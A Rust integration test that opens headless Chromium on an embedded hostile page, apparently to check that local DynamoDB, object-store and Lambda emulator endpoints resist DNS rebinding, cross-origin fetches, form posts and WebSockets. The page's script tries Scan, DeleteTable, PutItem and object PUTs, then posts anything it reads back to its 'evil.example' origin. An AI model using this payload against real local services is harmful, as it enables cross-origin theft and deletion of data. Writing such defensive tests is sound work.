//! A page in a real browser on this machine, which reaches every port on loopback.
#![cfg(target_os = "linux")]

mod common;
#[path = "common/raw.rs"]
mod raw;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::time::Duration;

use common::{Folder, Up};
use raw::Table;
use serde_json::{Value, json};

const ROW: &str = "lambda-rust-dynamodb";
/// A name that its owner points at loopback (DNS rebinding).
const NAME: &str = "evil.example";
const NAMES: [&str; 4] = ["chromium", "chromium-browser", "google-chrome", "google-chrome-stable"];
/// A browser starts in seconds, in more where others compile.
const PATIENCE: Duration = Duration::from_secs(120);
/// Nothing that the browser does by itself; the name leads to this machine.
const FLAGS: [&str; 9] = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--host-resolver-rules=MAP evil.example 127.0.0.1",
];

/// Tries everything a page can, by address and by name, and posts what it could read to its own
/// server. `WHERE` is replaced by the row's addresses.
const PAGE: &str = r#"<!doctype html><meta charset=utf-8><body><script>
const at = WHERE;
const read = [];
const scan = JSON.stringify({TableName: 'hits'});
const target = name => ({'x-amz-target': 'DynamoDB_20120810.' + name, 'content-type': 'application/x-amz-json-1.0'});
async function attempt(what, url, options) {
  try {
    const answer = await fetch(url, options);
    const text = await answer.text();
    if (answer.type !== 'opaque') read.push(what + ' ' + answer.status + ' ' + text.slice(0, 80));
  } catch (refused) { /* as it should be */ }
}
function form(url) {
  const frame = document.createElement('iframe');
  frame.name = 'f' + Math.random();
  document.body.append(frame);
  const form = Object.assign(document.createElement('form'), {action: url, method: 'post', target: frame.name, enctype: 'text/plain'});
  form.append(Object.assign(document.createElement('input'), {name: '{"TableName":"hits","a":"', value: '"}'}));
  document.body.append(form);
  form.submit();
}
function socket(url) {
  return new Promise(done => {
    const ws = new WebSocket(url.replace('http:', 'ws:') + '/');
    ws.onopen = () => { read.push('websocket ' + url); done(); };
    ws.onerror = ws.onclose = () => done();
  });
}
(async () => {
  for (const name of ['127.0.0.1', 'evil.example']) {
    const by = url => url.replace('127.0.0.1', name);
    for (const operation of ['ListTables', 'Scan', 'DeleteTable', 'PutItem']) {
      const options = {method: 'POST', body: scan};
      await attempt(operation, by(at.table), {...options, headers: target(operation)});
      await attempt(operation + ' simple', by(at.table), {...options, headers: {'content-type': 'text/plain'}});
      await attempt(operation + ' no-cors', by(at.table), {...options, mode: 'no-cors'});
    }
    for (const path of ['/', '/hits', '/pages?list-type=2', '/pages/index.html']) {
      await attempt('objects ' + path, by(at.objects) + path, {});
      await attempt('objects put ' + path, by(at.objects) + path, {method: 'PUT', body: 'x'});
      await attempt('objects no-cors ' + path, by(at.objects) + path, {mode: 'no-cors'});
    }
    await attempt('invoke', by(at.invoke), {method: 'POST', body: at.event});
    await attempt('invoke no-cors', by(at.invoke), {method: 'POST', body: at.event, mode: 'no-cors'});
    for (const url of [at.table, at.objects, at.invoke]) {
      form(by(url));
      await socket(by(url).split('/').slice(0, 3).join('/'));
    }
  }
  // The row's own address is open on purpose: this one call counts, which shows that the page runs.
  await attempt('own', at.row + '/hits', {method: 'POST', mode: 'no-cors'});
  await new Promise(done => setTimeout(done, 1000));
  await fetch('/report', {method: 'POST', body: JSON.stringify(read)});
})();
</script>"#;

/// Ended when dropped, with all that it started.
struct Browser(Child);

impl Drop for Browser {
    fn drop(&mut self) {
        let group = nix::unistd::Pid::from_raw(self.0.id() as i32);
        let _ = nix::sys::signal::killpg(group, nix::sys::signal::Signal::SIGKILL);
        let _ = self.0.wait();
    }
}

fn open(url: &str, profile: &std::path::Path) -> Browser {
    use std::os::unix::process::CommandExt;
    let path = std::env::var_os("PATH").unwrap_or_default();
    let places: Vec<_> = std::env::split_paths(&path).collect();
    let programs = NAMES.iter().flat_map(|name| places.iter().map(move |at| at.join(name)));
    let program = programs.into_iter().find(|program| program.is_file()).expect("a browser");
    let mut command = Command::new(program);
    command.args(FLAGS).arg(format!("--user-data-dir={}", profile.display())).arg(url);
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).process_group(0);
    Browser(command.spawn().expect("the browser starts"))
}

/// Serves the page, and passes on what it reports.
fn server(page: String) -> (u16, Receiver<Value>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("it listens").port();
    let (tell, told) = channel();
    std::thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            let (page, tell) = (page.clone(), tell.clone());
            // A browser opens connections that it asks nothing on.
            std::thread::spawn(move || answer(stream, &page, &tell));
        }
    });
    (port, told)
}

fn answer(mut stream: TcpStream, page: &str, tell: &Sender<Value>) -> Option<()> {
    let mut reader = BufReader::new(stream.try_clone().ok()?);
    let mut first = String::new();
    reader.read_line(&mut first).ok()?;
    let mut length = 0;
    loop {
        let mut line = String::new();
        reader.read_line(&mut line).ok()?;
        if let Some(value) = line.to_lowercase().strip_prefix("content-length:") {
            length = value.trim().parse().ok()?;
        }
        if line.trim().is_empty() {
            break;
        }
    }
    if first.starts_with("POST /report ") {
        let mut body = vec![0; length];
        reader.read_exact(&mut body).ok()?;
        tell.send(serde_json::from_slice(&body).ok()?).ok()?;
    }
    let head = "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length:";
    write!(stream, "{head} {}\r\n\r\n{page}", page.len()).ok()
}

fn page_against(up: &Up) -> String {
    let event = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/clients/hits_event.json");
    let invoke = format!("{}/2015-03-31/functions/{ROW}/invocations", up.endpoints["invoke"]);
    let at = json!({
        "row": up.url,
        "table": up.endpoints["table"],
        "objects": up.endpoints["objects"],
        "invoke": invoke,
        "event": std::fs::read_to_string(event).expect("an event"),
    });
    PAGE.replace("WHERE", &at.to_string())
}

#[test]
fn a_hostile_page_in_a_browser_finds_nothing() {
    gearshift_testing::needs!("chromium");
    let folder = Folder::new();
    let up = folder.up(ROW, &["--physics", "off"]);
    let (port, reports) = server(page_against(&up));
    let profile = tempfile::tempdir().expect("a folder");
    let browser = open(&format!("http://{NAME}:{port}/"), profile.path());
    let read = reports.recv_timeout(PATIENCE).expect("the page reports");
    drop(browser);
    // The page of a row is published for all to read, in a browser only beside it: no origin is let in.
    assert_eq!(read, json!([]), "the page has read this");
    let table = Table { url: &up.endpoints["table"], credentials: up.credentials() };
    assert_eq!(table.hits(0), 1, "one call by the row's own address, and no other, has counted");
}
